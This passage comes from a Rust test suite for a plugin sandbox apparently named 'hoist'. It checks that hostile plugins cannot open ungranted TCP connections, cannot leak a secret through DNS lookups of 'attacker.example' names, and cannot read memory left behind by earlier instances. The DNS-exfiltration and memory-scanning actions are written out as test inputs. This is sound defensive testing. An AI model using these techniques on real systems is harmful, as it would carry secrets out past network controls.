        .current_dir(&dir)
        .args(["step", "run", plugins::HOSTILE_GRANTED, "--allow", "net:*"])
        .args([
            "--allow",
            "set-cwd",
            "--allow",
            "process:git",
            "--allow",
            "process:sh",
        ])
        .arg("--input")
        .arg(format!(
            "actions=[{{\"do\":\"tcp_connect\",\"addr\":\"{addr}\",\"send\":\"x\"}}]"
        )));
    assert_eq!(
        code, 0,
        "the step reports the refusal as its action's result: {err}"
    );
    assert!(
        err.contains(&format!("may not connect to tcp://{addr}"))
            && err.contains(&format!("`net:tcp://{addr}`")),
        "{err}"
    );
    assert_eq!(hit_count(), 2, "no connection reached the server");
}

/// A stand-in DNS resolver (Python, UDP on `addr`:53): records every query's name in
/// `log` and answers A queries with 192.0.2.7 (TEST-NET), others with no records. It
/// stands in for the machine's resolver (and whoever serves the asked domain), which
/// a test cannot watch; `hoist` is pointed at it through its own `/etc/resolv.conf`.
fn resolver(addr: &str, log: &Path) -> support::Server {
    let ready = log.with_extension("ready");
    let mut cmd = std::process::Command::new("python3");
    cmd.arg("-c").arg(format!(
        "import socket, struct\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(({addr:?}, 53))\n\
         open({ready:?}, 'w').close()\n\
         while True:\n    \
         q, peer = s.recvfrom(512)\n    \
         i, labels = 12, []\n    \
         while q[i]: labels.append(q[i+1:i+1+q[i]].decode('ascii', 'replace')); i += 1 + q[i]\n    \
         qtype = struct.unpack('>H', q[i+1:i+3])[0]; end = i + 5\n    \
         with open({log:?}, 'a') as f: f.write('.'.join(labels) + '\\n')\n    \
         head = q[:2] + struct.pack('>HHHHH', 0x8180, 1, 1 if qtype == 1 else 0, 0, 0)\n    \
         answer = b'\\xc0\\x0c' + struct.pack('>HHIH', 1, 1, 60, 4) + bytes([192, 0, 2, 7]) if qtype == 1 else b''\n    \
         s.sendto(head + q[12:end] + answer, peer)\n",
        ready = ready.display().to_string(),
        log = log.display().to_string(),
    ));
    let child = cmd
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("python3 runs the stand-in resolver");
    let server = support::Server(child, 53);
    for _ in 0..200 {
        if ready.exists() {
            return server;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    panic!("the stand-in resolver did not start on {addr}:53");
}

/// `hoist` in a mount namespace of its own whose `/etc/resolv.conf` names only
/// `nameserver`; `None` (a skip, said aloud) where mount namespaces cannot be made.
fn hoist_with_resolver(dir: &Path, nameserver: &str) -> Option<std::process::Command> {
    let works = std::process::Command::new("unshare")
        .args(["--mount", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !works {
        assert!(
            std::env::var_os("HOIST_REQUIRE_NAMESPACES").is_none(),
            "HOIST_REQUIRE_NAMESPACES is set but `unshare --mount` fails (run as root, util-linux)"
        );
        support::skip("`unshare --mount` fails: the resolver cannot be swapped for one process");
        return None;
    }
    let conf = dir.join("resolv.conf");
    std::fs::write(
        &conf,
        format!("nameserver {nameserver}\noptions attempts:1 timeout:2\n"),
    )
    .unwrap();
    let hoist = support::hoist(dir);
    let mut cmd = std::process::Command::new("unshare");
    cmd.args([
        "--mount",
        "sh",
        "-c",
        "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
    ])
    .arg(&conf)
    .arg(hoist.get_program());
    for (k, v) in hoist.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    Some(cmd)
}

/// A name lookup is traffic: the name reaches the resolver, so a step granted only
/// `net:https://api.example.invalid` could carry a secret out inside a DNS name. Hoist
/// serves `ip-name-lookup` itself: a name no `net` grant covers is refused before the
/// resolver sees it (the stand-in resolver logs no query for it), with a denial naming
/// the grant; the granted host is looked up (the control: the resolver answers it).
#[test]
fn a_name_lookup_reaches_the_resolver_only_for_a_host_a_grant_names() {
    let (_t, dir) = support::tempdir();
    let ns = format!(
        "127.53.{}.{}",
        std::process::id() % 250,
        1 + std::process::id() % 7
    );
    let log = dir.join("queries");
    let _resolver = resolver(&ns, &log);
    let queries = || std::fs::read_to_string(&log).unwrap_or_default();
    let step = |name: &str| {
        let mut cmd = hoist_with_resolver(&dir, &ns)?;
        cmd.current_dir(&dir)
            .args(["step", "run", plugins::HOSTILE_NET])
            .args(["--allow", "net:https://api.example.invalid"])
            .arg("--input")
            .arg(format!(
                "actions=[{{\"do\":\"resolve\",\"name\":\"{name}:443\"}}]"
            ));
        Some(run(&mut cmd))
    };
    let leak = "hoist-secret-5e1f.attacker.example";
    let Some((code, out, err)) = step(leak) else {
        return;
    };
    assert_eq!(code, 0, "the refusal is the action's result: {err}");
    assert!(
        err.contains("may not look up the name `hoist-secret-5e1f.attacker.example`")
            && err.contains("no `net` grant names that host"),
        "{err}"
    );
    assert!(!out.contains("192.0.2.7"), "{out}");
    assert!(
        !queries().contains("5e1f"),
        "the resolver saw: {}",
        queries()
    );
    for dressed in [
        "HOIST-SECRET-5E1F.attacker.example.",
        "api.example.invalid.attacker.example",
    ] {
        let (_, out, _) = step(dressed).unwrap();
        assert!(!out.contains("192.0.2.7"), "{dressed}: {out}");
    }
    assert!(
        !queries().to_ascii_lowercase().contains("attacker"),
        "the resolver saw: {}",
        queries()
    );

    // The control: the granted host is looked up, through the same resolver.
    let (code, out, err) = step("api.example.invalid").unwrap();
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("192.0.2.7:443"), "{out}\n{err}");
    assert!(queries().contains("api.example.invalid"), "{}", queries());
}

/// The instance pool resets a reused memory slot in place (the pages the last instance
/// dirtied, `linear_memory_keep_resident`): the next step, in the same slot, sees nothing
/// of what the last one left in its heap and statics, though the same scan finds it
/// within one instance.
#[tokio::test]
async fn the_next_instance_sees_nothing_of_the_last_ones_memory() {
    let rt = support::runtime();
    let (_t, dir) = support::tempdir();
    let secret = "hoist-residue-7f3a91";
    let reversed: String = secret.chars().rev().collect();
    let out = attack(
        &rt,
        plugins::HOSTILE,
        &dir,
        Grants::default(),
        json!([
            {"do": "stash", "secret": secret, "copies": 4096},
            {"do": "scan_memory", "reversed": reversed},
        ]),
    )
    .await
    .unwrap();
    assert!(
        out["results"][1]["ok"].as_u64().unwrap() > 0,
        "the scan does not find what one instance stashed: {out}"
    );
    // What the proof rests on: the pooling allocator, and the next instances in the
    // slot the last one used (a fresh mmap would be zero anyway and prove nothing).
    assert!(
        matches!(rt.allocator(), hoist::runtime::Allocator::Pooling),
        "the runtime fell back to on-demand allocation"
    );
    let pool = rt
        .engine()
        .pooling_allocator_metrics()
        .expect("a pooling engine");
    let warm = pool.unused_warm_memories();
    assert!(
        pool.memories() == 0 && warm >= 1,
        "the stashing instance's memory is not a warm slot now ({} live, {warm} warm)",
        pool.memories()
    );
    for _ in 0..3 {
        let out = attack(
            &rt,
            plugins::HOSTILE,
            &dir,
            Grants::default(),
            json!([{"do": "scan_memory", "reversed": reversed}]),
        )
        .await
        .unwrap();
        assert_eq!(
            out["results"][0]["ok"], 0,
            "an instance read what the last one left in memory"
        );
        assert_eq!(
            pool.unused_warm_memories(),
            warm,
            "the instance took a new slot, not the warm one the last instance left"
        );
    }
}
